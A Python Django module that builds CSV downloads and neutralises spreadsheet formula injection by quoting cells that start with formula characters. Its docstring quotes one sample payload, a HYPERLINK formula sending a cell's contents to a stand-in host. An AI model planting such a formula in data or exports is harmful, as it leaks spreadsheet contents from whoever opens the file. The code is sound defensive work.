"""The one way the site writes a spreadsheet (CSV) for people to download.

Spreadsheet programs (Excel, LibreOffice, Google Sheets) read a cell that starts with "=", "+",
"-" or "@" as a formula, and a leading tab or carriage return can hide one: text an applicant
wrote, such as =HYPERLINK("https://evil.example/?"&A1, "Read more"), would run on a board
member's machine. Every such cell gets a leading single quote, which the programs read as "this is
text" (OWASP, CSV injection). Numbers the site itself computed are written as numbers.
"""

import csv
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | Decimal


def safe_cell(value: object) -> Cell:
    if isinstance(value, int | float | Decimal):
        return value
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def csv_response(
    filename: str, header: Sequence[str], rows: Iterable[Iterable[object]]
) -> HttpResponse:
    """A CSV download: the header, then each row, every cell made safe to open."""
    response = HttpResponse(content_type="text/csv")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    writer = csv.writer(response)
    writer.writerow([safe_cell(name) for name in header])
    writer.writerows([safe_cell(value) for value in row] for row in rows)
    return response
